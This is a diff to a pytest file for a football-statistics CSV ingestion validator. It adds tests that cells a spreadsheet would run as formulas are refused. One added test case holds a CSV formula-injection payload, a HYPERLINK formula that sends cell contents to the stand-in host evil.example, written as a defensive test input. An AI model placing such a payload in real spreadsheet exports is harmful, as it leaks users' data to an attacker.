@@ -4,7 +4,8 @@ from pathlib import Path
 
 import pytest
 
-from ingest.model import ClubFile, Rejected, TableFile
+from events.values import LARGEST_NUMBER
+from ingest.model import ClubFile, Rejected, StoredFile, TableFile
 from ingest.reading import read_sheet
 from ingest.validation import check
 
@@ -15,7 +16,8 @@ LIVERPOOL_ROW = "Liverpool,Mohamed Salah,Egypt,Forward,38,22,8,1079,5,21,25,135"
 
 
 def parse(text: str | bytes) -> ClubFile | TableFile:
-    return check(read_sheet(text.encode() if isinstance(text, str) else text))
+    content = text.encode() if isinstance(text, str) else text
+    return check(read_sheet(StoredFile.in_memory(content)))
 
 
 def reasons(text: str) -> dict[int, str]:
@@ -93,7 +95,7 @@ def test_an_unknown_position_is_refused() -> None:
 
 def test_a_player_twice_in_a_file_is_refused_even_with_other_accents_or_case() -> None:
     text = f"{LIVERPOOL_ROW}\nLiverpool,MOHAMED SALÀH,Egypt,Forward,1,1,1,1,1,1,1,1\n"
-    assert reasons(text) == {2: "MOHAMED SALÀH is already on line 1"}
+    assert reasons(text) == {2: "'MOHAMED SALÀH' is already on line 1"}
 
 
 def test_a_club_file_naming_two_clubs_is_refused() -> None:
@@ -123,7 +125,7 @@ def test_a_table_row_that_does_not_add_up_is_refused(row: str, reason: str) -> N
 
 def test_a_club_twice_in_the_table_is_refused() -> None:
     text = f"{TABLE_HEADER}\nA;1;1;0;0;1;0;1;3\nA;1;1;0;0;1;0;1;3\n"
-    assert reasons(text) == {3: "A is already on line 2"}
+    assert reasons(text) == {3: "'A' is already on line 2"}
 
 
 def test_a_file_that_is_not_utf8_is_refused_at_the_line_of_the_bad_byte() -> None:
@@ -134,3 +136,52 @@ def test_a_file_that_is_not_utf8_is_refused_at_the_line_of_the_bad_byte() -> Non
 
 def test_an_empty_file_is_refused() -> None:
     assert reasons("\r\n\r\n") == {1: "the file has no rows"}
+
+
+@pytest.mark.parametrize(
+    ("cell", "first"),
+    [
+        ('"=HYPERLINK(""http://evil.example/?""&A1,""Salah"")"', "="),
+        ("+44 Salah", "+"),
+        ("-Salah", "-"),
+        ("@SUM(A1)", "@"),
+        ("\tSalah", "\\t"),
+        ('"\rSalah"', "\\r"),
+        ("  =1+1", "="),
+    ],
+)
+def test_a_text_cell_a_spreadsheet_would_run_as_a_formula_is_refused(cell: str, first: str) -> None:
+    for column in (0, 1, 2):  # club, name, nationality
+        cells = LIVERPOOL_ROW.split(",")
+        cells[column] = cell
+        (reason,) = reasons(",".join(cells) + "\n").values()
+        assert f"must not start with '{first}', which makes it a spreadsheet formula" in reason
+
+
+def test_a_dash_or_an_at_inside_a_name_is_no_formula() -> None:
+    text = "Liverpool,Alex Oxlade-Chamberlain,England,Midfielder,2,0,0,20,1,2,0,35\n"
+    assert parse(text).players[0].name == "Alex Oxlade-Chamberlain"  # type: ignore[union-attr]
+
+
+def test_a_negative_goal_difference_is_a_number_and_a_formula_in_it_is_not() -> None:
+    table = f"{TABLE_HEADER}\nA;1;0;0;1;0;2;-2;0\nB;1;0;0;1;0;2;\u22122;0\n"
+    assert [row.goal_difference for row in parse(table).standings] == [-2, -2]  # type: ignore[union-attr]
+    refused = reasons(f"{TABLE_HEADER}\nA;1;0;0;1;0;2;-1-1;0\nB;1;0;0;1;0;2;=-2;0\n")
+    assert refused == {
+        2: "goal_difference must be a whole number, got '-1-1'",
+        3: "goal_difference must be a whole number, got '=-2'",
+    }
+
+
+def test_a_number_past_the_contracts_largest_is_refused_however_long() -> None:
+    largest = str(LARGEST_NUMBER)
+    assert parse(LIVERPOOL_ROW.replace(",135", f",{largest}")).players[0].price == int(largest)  # type: ignore[union-attr]
+    for too_large in (str(LARGEST_NUMBER + 1), "9" * 5_000):
+        refused = reasons(LIVERPOOL_ROW.replace(",135", f",{too_large}") + "\n")
+        assert refused[1].startswith("price") and largest in refused[1]
+
+
+def test_a_club_file_with_a_blank_capital_column_reads_as_one_without() -> None:
+    header = "Club,Player,Nationality,Position,Appearances,Goals,Assists,Passes,Interceptions,"
+    text = f"{header}Tackles,Fouls,Price,Capital\n{LIVERPOOL_ROW},\n"
+    assert parse(text).players[0].price == 135  # type: ignore[union-attr]
